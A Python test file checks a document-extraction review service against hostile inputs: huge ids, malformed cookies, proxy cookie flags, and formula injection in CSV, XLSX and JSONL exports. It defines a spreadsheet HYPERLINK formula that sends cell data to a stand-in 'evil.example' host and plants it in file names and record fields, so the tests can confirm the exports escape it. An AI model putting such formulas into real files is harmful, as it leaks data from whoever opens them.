"""The review service and the exports under hostile requests and names (issue 11): huge ids and
offsets, a cookie of any characters, a count no database integer holds, the session cookie's
flags behind an HTTPS proxy, formulas in names and reviewed organizations."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any, Iterator

import httpx
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from extractor import store as st
from extractor.cli import main
from extractor.service.app import create_app
from extractor.settings import Settings
from tests.dev_reports import DEV
from tests.test_api import assert_error, live_server
from tests.test_hostile_batch import twenty_digit_report

HUGE = (2 ** 63, 2 ** 64, 10 ** 30)
TOKEN = "0123456789abcdef-token"


@pytest.fixture
def client(tmp_path: Path) -> Iterator[httpx.Client]:
    settings = Settings(db_path=tmp_path / "r.sqlite", llm="off")
    with live_server(create_app(settings)) as url, httpx.Client(base_url=url, timeout=120) as c:
        yield c


def test_ids_and_offsets_beyond_64_bits_are_a_4xx(client: httpx.Client) -> None:
    eid = client.post("/v1/extractions", json={"text": (DEV / "016" / "page.txt").read_text("utf-8")}).json()["id"]
    routes = ["/v1/extractions/{id}", "/v1/extractions/{id}/source", "/v1/extractions/{id}/history",
              "/v1/extractions/{id}/gold", "/review/{id}"]
    for n in HUGE:
        for route in routes:
            assert_error(client.get(route.format(id=n), headers={"accept": "application/json"}), 422,
                         "validation_error")
        assert_error(client.post(f"/v1/extractions/{n}/review", json={"reviewer": "a", "decision": "reject"}),
                     422, "validation_error")
        assert_error(client.get("/v1/queue", params={"offset": n}), 422, "validation_error")
        assert client.get("/review", params={"offset": n}).status_code == 422
        assert client.get("/review", params={"done": n}).status_code == 422
    # the largest id that fits is an ordinary unknown id; the service still answers
    assert_error(client.get(f"/v1/extractions/{2 ** 63 - 1}"), 404, "not_found")
    assert client.get(f"/v1/extractions/{eid}").status_code == 200
    assert client.get("/healthz").status_code == 200


def test_every_route_with_an_id_refuses_a_huge_one(client: httpx.Client) -> None:
    # routes added later keep the rule: any {…id} path parameter
    paths = [p for p in client.get("/openapi.json").json()["paths"] if "_id}" in p]
    assert paths
    for path in paths:
        for method in ("get", "post"):
            url = path.split("{")[0] + str(2 ** 64) + path.split("}", 1)[1]
            resp = client.request(method, url, json={})
            assert 400 <= resp.status_code < 500 and resp.status_code != 404 or resp.status_code == 405, \
                (method, url, resp.status_code, resp.text[:200])


def test_a_20_digit_count_uploaded_is_stored_for_review(client: httpx.Client) -> None:
    resp = client.post("/v1/extractions", files={"file": ("huge.html", twenty_digit_report(), "text/html")})
    assert resp.status_code == 201, resp.text
    body = resp.json()
    assert body["status"] == "review"
    assert any("larger than any figure" in r for r in body["reasons"])


def test_a_cookie_of_any_characters_is_a_401_not_a_500(tmp_path: Path) -> None:
    settings = Settings(db_path=tmp_path / "r.sqlite", llm="off", api_token=TOKEN)
    with live_server(create_app(settings)) as url, httpx.Client(base_url=url, timeout=60) as c:
        for raw in (b"extractor_session=\xc3\xa9t\xc3\xa9", b"extractor_session=\xff\xfe", b"extractor_session=\xe2\x80\xae"):
            resp = c.get("/v1/queue", headers={"cookie": raw})   # bytes: sent as they are
            assert_error(resp, 401, "unauthorized")
        resp = c.get("/v1/queue", headers={"authorization": b"Bearer \xc3\xa9"})
        assert_error(resp, 401, "unauthorized")


def proxied_server(app: Any, forwarded_allow_ips: str) -> Any:
    """uvicorn as `extractor serve` runs it (proxy headers trusted from `forwarded_allow_ips`)."""
    return live_server(app, proxy_headers=True, forwarded_allow_ips=forwarded_allow_ips)


@pytest.mark.parametrize("trusted", [True, False])
def test_session_cookie_is_httponly_samesite_and_secure_behind_an_https_proxy(tmp_path: Path, trusted: bool) -> None:
    settings = Settings(db_path=tmp_path / "r.sqlite", llm="off", api_token=TOKEN)
    with proxied_server(create_app(settings), "127.0.0.1" if trusted else "10.9.9.9") as url, \
            httpx.Client(base_url=url, timeout=60) as c:
        plain = c.post("/login", data={"token": TOKEN}).headers["set-cookie"].lower()
        proxied = c.post("/login", data={"token": TOKEN},
                         headers={"x-forwarded-proto": "https", "x-forwarded-for": "203.0.113.9"}).headers["set-cookie"].lower()
    for cookie in (plain, proxied):
        assert "httponly" in cookie and "samesite=strict" in cookie
    assert "secure" not in plain
    assert ("secure" in proxied) == trusted


def test_serve_has_a_forwarded_allow_ips_option() -> None:
    out = CliRunner().invoke(main, ["serve", "--help"]).output
    assert "--forwarded-allow-ips" in out


# ---------------------------------------------------------------- formula injection in exports

FORMULA = '=HYPERLINK("https:evil.example?x="&A1,"click")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    root = tmp_path_factory.mktemp("formula")
    folder = root / "in"
    folder.mkdir()
    names = [f"{prefix}{FORMULA[1:]}.txt" for prefix in ("=", "+", "@", "-")]
    for i, name in enumerate(names):   # distinct contents: each stored as extracted, not as a copy
        (folder / name).write_bytes((DEV / "010" / "page.txt").read_bytes() + f"\n{i}\n".encode())
    (folder / "plain.txt").write_bytes((DEV / "016" / "page.txt").read_bytes())
    db = root / "r.sqlite"
    with pytest.MonkeyPatch.context() as mp:
        mp.chdir(folder)   # names given as they are: the stored paths start with the formula
        run = CliRunner().invoke(main, ["run", "--db", str(db), "--", *names, "plain.txt"],
                                 env={"EXTRACTOR_LLM": "off"})
    assert run.exit_code == 0, run.output
    with st.open_store(db) as store:
        row = st.current_for_path(store, "plain.txt")
        assert row is not None
        record = st.get_record(store, row["id"])
        assert record is not None
        record["organization"] = FORMULA
        st.add_review(store, row["id"], reviewer="-@evil", decision="accept", record=record)
    yield db


def _export(db: Path, *args: str) -> str:
    res = CliRunner().invoke(main, ["export", "--db", str(db), *args])
    assert res.exit_code == 0, res.output
    return res.stdout


@pytest.mark.parametrize("layout", ["long", "wide"])
def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(formula_db: Path, layout: str) -> None:
    rows = list(csv.reader(io.StringIO(_export(formula_db, "--format", "csv", "--layout", layout))))
    cells = [c for row in rows for c in row]
    bad = [c for c in cells if c.startswith(STARTS) and not _is_number(c)]
    assert not bad, bad[:5]
    assert any(c == "'" + FORMULA for c in cells)            # shown as text, whole
    numbers = [c for c in cells if _is_number(c)]
    assert numbers and not any(c.startswith("'") and _is_number(c[1:]) for c in cells)


def test_xlsx_has_no_formula_cells_and_numbers_stay_numbers(formula_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.xlsx"
    res = CliRunner().invoke(main, ["export", "--db", str(formula_db), "--format", "xlsx", "--out", str(out)])
    assert res.exit_code == 0, res.output
    wb = load_workbook(out)
    formulas, texts, numbers = [], [], 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    formulas.append((ws.title, c.coordinate, c.value))
                elif isinstance(c.value, str):
                    texts.append(c.value)
                elif isinstance(c.value, (int, float)):
                    numbers += 1
    assert not formulas, formulas[:5]
    assert not [t for t in texts if t.startswith(STARTS) and not _is_number(t)]
    assert "'" + FORMULA in texts
    assert numbers > 100


def test_jsonl_keeps_names_exactly(formula_db: Path) -> None:
    sources = [json.loads(line)["source"] for line in _export(formula_db, "--format", "jsonl").splitlines()]
    assert sum(s.startswith(("=HYPERLINK", "+HYPERLINK", "@HYPERLINK", "-HYPERLINK")) for s in sources) == 4
